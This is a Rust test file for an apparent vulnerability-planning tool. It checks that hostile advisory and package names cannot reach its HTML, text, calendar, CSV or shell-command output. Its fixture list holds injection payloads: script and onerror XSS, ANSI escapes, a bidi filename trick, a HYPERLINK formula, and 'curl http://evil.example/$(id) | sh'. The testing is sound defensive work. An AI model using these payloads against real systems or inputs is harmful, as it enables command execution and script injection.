//! Names, versions and records of strangers: nothing that they hold acts on
//! paper, terminal, page or shell, and nothing of them makes a plan fail.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod hospital;

use assay_base::Answer;
use assay_inventory::component::PatchedBy;
use assay_inventory::ecosystem::Ecosystem;
use assay_match::exposure::{Certainty, Exposure, Impact, Touch};
use assay_plan::card::Step;
use assay_plan::previous::Previous;
use assay_plan::{Plan, render};
use hospital::{Case, NOW, advisory, at, exposure, kev, package, product};
use proptest::prelude::*;

const NASTY: [&str; 8] = [
    "<script>alert(1)</script>",
    "\u{1b}[2J\u{1b}[31mdone\u{7}",
    "pump\u{202e}gpj.exe\u{2066}",
    "x; curl http://evil.example/$(id) | sh #",
    "--config=/tmp/evil",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example\")",
    "line\r\nTarget: never\u{2028}next",
];

fn acts(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

fn nasty(text: &str, touch: Touch) -> Vec<Exposure> {
    let mut facts = kev(advisory(text, text), text, Answer::Yes);
    facts.aliases = vec![text.to_owned()];
    facts.ssvc_from = text.to_owned();
    facts.cvss = Some(text.to_owned());
    facts.published = Some(text.to_owned());
    facts.references = vec![text.to_owned(), format!("javascript:{text}"), format!("https://{text}")];
    let ours = product(text, text, Some(text), text, PatchedBy::Us, Answer::Yes);
    let theirs = product(text, text, Some(text), text, PatchedBy::Vendor(text.to_owned()), Answer::Unknown);
    let mut all: Vec<Exposure> =
        [ours, theirs].into_iter().map(|thing| exposure(thing, facts.clone(), touch, &[text])).collect();
    for ecosystem in [
        Ecosystem::Npm,
        Ecosystem::Cargo,
        Ecosystem::PyPi,
        Ecosystem::Go,
        Ecosystem::Debian(Some(text.to_owned())),
        Ecosystem::Other(text.to_owned()),
    ] {
        all.push(exposure(package(ecosystem, text, text), facts.clone(), touch, &[text]));
    }
    for one in &mut all {
        one.inventory = text.to_owned();
        one.why = text.to_owned();
        one.certainty = Certainty::Likely;
    }
    all
}

/// RFC 5545: lines of at most 75 bytes that end with CR LF, a name before each value, and what begins ends.
fn calendar_holds(text: &str) {
    assert!(text.ends_with("END:VCALENDAR\r\n") && text.starts_with("BEGIN:VCALENDAR\r\n"));
    assert!(!text.replace("\r\n", "").contains(['\r', '\n']));
    let folded: Vec<&str> = text.split("\r\n").collect();
    assert!(folded.iter().all(|line| line.len() <= 75), "{folded:?}");
    let mut open = Vec::new();
    for line in text.replace("\r\n ", "").trim_end().split("\r\n") {
        assert!(!line.chars().any(acts), "{line:?}");
        let (name, value) = line.split_once(':').unwrap_or_else(|| panic!("{line:?} has no value"));
        let name = name.split(';').next().unwrap();
        assert!(!name.is_empty() && name.chars().all(|c| c.is_ascii_uppercase() || c == '-'), "{line:?}");
        match name {
            "BEGIN" => open.push(value.to_owned()),
            "END" => assert_eq!(open.pop().as_deref(), Some(value)),
            _ => {}
        }
    }
    assert!(open.is_empty(), "{open:?}");
}

/// RFC 4180, read by its own rules: as many cells in each row as in the first, and none of them a formula.
fn table_holds(text: &str, rows: usize) {
    let mut table: Vec<Vec<String>> = vec![vec![String::new()]];
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let row = table.last_mut().unwrap();
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                row.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(String::new()),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {
                chars.next();
                table.push(vec![String::new()]);
            }
            c => row.last_mut().unwrap().push(c),
        }
    }
    assert_eq!(table.pop(), Some(vec![String::new()]), "the last row ends its line");
    assert_eq!(table.len(), rows + 1);
    for row in &table {
        assert_eq!(row.len(), table[0].len(), "{row:?}");
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t']) && !cell.chars().any(acts), "{cell:?}");
        }
    }
}

#[test]
fn a_name_of_a_megabyte_makes_no_page_of_a_megabyte() {
    let long = format!("{}\u{202e}{}", "Pump ".repeat(100_000), "<b>".repeat(180_000));
    for touch in [Touch::Affected, Touch::CannotTell] {
        let mut things = nasty("1.0", touch);
        things.truncate(2);
        for one in &mut things {
            one.component.what = product(&long, &long, None, "", PatchedBy::Us, Answer::Yes).what;
            one.component.site.place.clone_from(&long);
            one.why.clone_from(&long);
            one.advisory.summary.clone_from(&long);
        }
        let plan = Case::new(things).plan();
        let written = [render::html(&plan), render::text_whole(&plan), render::calendar(&plan), render::cards(&plan)];
        for one in written {
            assert!(one.len() < 400_000 && !one.contains("<b>") && !one.contains('\u{202e}'), "{}", one.len());
        }
        calendar_holds(&render::calendar(&plan));
        let json = serde_json::to_string(&plan).unwrap();
        assert!(Previous::read(json.as_bytes(), at(NOW)).is_ok());
    }
}

fn commands(plan: &Plan) -> Vec<String> {
    let of = |steps: &[Step]| steps.iter().filter_map(|step| step.command.clone()).collect::<Vec<_>>();
    plan.cards
        .iter()
        .chain(&plan.later)
        .chain(&plan.find_out)
        .flat_map(|card| {
            [of(&card.first), of(&card.steps), of(&card.instead), of(&card.undo), of(&card.check)].concat()
        })
        .collect()
}

#[test]
fn nothing_of_a_stranger_acts() {
    for text in NASTY {
        for touch in [Touch::Affected, Touch::CannotTell] {
            let plan = Case::new(nasty(text, touch)).plan();
            let shown = render::text_whole(&plan);
            assert!(!shown.chars().any(acts), "{text:?}");
            assert!(!shown.lines().any(|line| line.starts_with("Target: never")), "{text:?}");
            let html = render::html(&plan);
            assert!(!html.replace(include_str!("../src/render/page/style.css"), "").chars().any(acts), "{text:?}");
            for tag in ["<script", "<img", "onerror=alert(1)>", "href=\"javascript", "href=\"x;"] {
                assert!(!html.contains(tag), "{tag} of {text:?}");
            }
            for command in commands(&plan) {
                for part in ["evil", "alert", "HYPERLINK", "gpj", "[31m"] {
                    assert!(!command.contains(part), "{command}");
                }
            }
        }
    }
}

#[test]
fn a_plain_name_is_in_the_command_and_a_trick_is_not() {
    let of = |name: &str| {
        commands(
            &Case::new(vec![exposure(
                package(Ecosystem::Npm, name, "1.0.0"),
                advisory("GHSA-1", "x"),
                Touch::Affected,
                &["1.0.1"],
            )])
            .plan(),
        )
    };
    assert_eq!(of("@scope/pkg")[0], "npm ls @scope/pkg");
    assert!(of("pkg && reboot").is_empty());
    assert!(of("-g").is_empty());
}

#[test]
fn a_page_is_escaped_and_closed() {
    let plan = Case::new(NASTY.iter().flat_map(|text| nasty(text, Touch::Affected)).collect()).plan();
    let html = render::html(&plan);
    for tag in ["article", "section", "ol", "ul", "li", "div", "p", "dl", "pre", "code", "blockquote"] {
        let opened = html.matches(&format!("<{tag}>")).count() + html.matches(&format!("<{tag} ")).count();
        assert_eq!(opened, html.matches(&format!("</{tag}>")).count(), "{tag}");
    }
    let mut ids: Vec<&str> = html.split(" id=\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
    let all = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), all, "ids are unique");
}

#[test]
fn what_is_no_earlier_plan_is_refused_with_a_reason() {
    let good = serde_json::to_string(&Case::new(hospital::exposures()).plan()).unwrap();
    let now = at(NOW);
    assert!(Previous::read(good.as_bytes(), now).is_ok());
    let error = |text: &str| Previous::read(text.as_bytes(), now).unwrap_err().to_string();
    assert!(error("{}").contains("missing field"));
    assert!(error(&good.replace("assay.plan/1", "assay.plan/9")).contains("is no `assay.plan/1`"));
    let future = Previous::read(good.as_bytes(), at("2026-01-01T00:00:00Z")).unwrap_err().to_string();
    assert!(future.contains("later than now"), "{future}");
    assert!(error(&format!("{}{}", "[".repeat(100_000), "]".repeat(100_000))).contains("cannot be read"));
}

#[test]
fn a_plan_from_the_future_of_a_card_does_not_move_its_clock() {
    // A card that claims to be first seen after its own plan was made would have its clock start again.
    let first = Case::new(hospital::exposures()).plan();
    let json =
        serde_json::to_string(&first).unwrap().replace("\"first-seen\":\"2026-11-21", "\"first-seen\":\"2099-11-21");
    let mut case = Case::new(hospital::exposures());
    case.now = "2026-11-30T00:00:00Z".to_owned();
    case.previous = Some(json);
    assert!(case.plan().cards.iter().all(|card| card.first_seen == first.made));
}

fn word() -> impl Strategy<Value = String> {
    prop_oneof![Just(String::new()), "[a-z]{1,8}", "\\PC{0,12}", ".{0,12}", "[0-9.]{1,8}"]
}

prop_compose! {
    fn any_exposure()(
        (vendor, name, version, place) in (word(), word(), prop::option::of(word()), word()),
        (id, summary, published, added, vector, from) in (word(), word(), prop::option::of(word()), prop::option::of(prop_oneof![word(), Just("2024-02-09".to_owned())]), prop::option::of(word()), word()),
        (exposed, automatable, impact, ransomware, who, kind, touch) in (0..3_u8, 0..3_u8, 0..3_u8, 0..3_u8, 0..3_u8, 0..4_u8, 0..3_u8),
        score in prop::option::of(any::<f64>()),
        fixed in prop::collection::vec(word(), 0..3),
    ) -> Exposure {
        let answer = |n| [Answer::Yes, Answer::No, Answer::Unknown][usize::from(n)];
        let who = match who { 0 => PatchedBy::Us, 1 => PatchedBy::Vendor(vendor.clone()), _ => PatchedBy::Unknown };
        let thing = match kind {
            0 => package(Ecosystem::Npm, &name, version.as_deref().unwrap_or("1.0.0")),
            1 => package(Ecosystem::Debian(None), &name, version.as_deref().unwrap_or("1-1")),
            _ => product(&vendor, &name, version.as_deref(), &place, who, answer(exposed)),
        };
        let mut facts = advisory(&id, &summary);
        facts.published = published;
        if let Some(added) = added {
            facts = kev(facts, &added, answer(ransomware));
        }
        facts.cvss = vector;
        facts.score = score;
        facts.automatable = answer(automatable);
        facts.impact = [Impact::Total, Impact::Partial, Impact::Unknown][usize::from(impact)];
        facts.ssvc_from = from;
        let fixed: Vec<&str> = fixed.iter().map(String::as_str).collect();
        exposure(thing, facts, [Touch::Affected, Touch::CannotTell, Touch::NotAffected][usize::from(touch)], &fixed)
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn whatever_comes_there_is_a_plan(exposures in prop::collection::vec(any_exposure(), 0..12)) {
        let mut case = Case::new(exposures.clone());
        let plan = case.plan();
        let (text, html) = (render::text_whole(&plan), render::html(&plan));
        prop_assert!(!text.chars().any(acts));
        prop_assert!(html.ends_with("</html>"));
        // Every card has a reason, a check and its place; every unknown is a range or does not matter.
        for card in plan.cards.iter().chain(&plan.later).chain(&plan.find_out) {
            prop_assert!(!card.why.is_empty() && !card.steps.is_empty() && card.rank.place >= 1);
            prop_assert!(card.rank.place <= card.rank.of);
            prop_assert!(card.outcome.earliest <= card.outcome.latest);
        }
        calendar_holds(&render::calendar(&plan));
        table_holds(&render::cards(&plan), plan.cards.len() + plan.later.len() + plan.find_out.len());
        // Nothing that touches is left out: each pair is on exactly one card.
        let pairs = exposures.iter().filter(|exposure| exposure.touch != Touch::NotAffected).count();
        let told: usize = plan.cards.iter().chain(&plan.later).chain(&plan.find_out)
            .filter(|card| card.kind != assay_plan::card::CardKind::Triage)
            .map(|card| card.closes.len() + card.perhaps.len()).sum();
        prop_assert_eq!(pairs, told);
        // A plan is a function of what it is made from, and the next plan reads it.
        let json = serde_json::to_string(&plan).unwrap();
        prop_assert_eq!(&json, &serde_json::to_string(&case.plan()).unwrap());
        prop_assert!(Previous::read(json.as_bytes(), at(NOW)).is_ok());
        case.exposures.reverse();
        let order = |plan: &Plan| plan.cards.iter().map(|card| card.id.clone()).collect::<Vec<_>>();
        prop_assert_eq!(order(&plan), order(&case.plan()));
    }

    #[test]
    fn any_bytes_are_an_earlier_plan_or_refused(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        prop_assert!(Previous::read(&bytes, at(NOW)).is_err());
    }
}
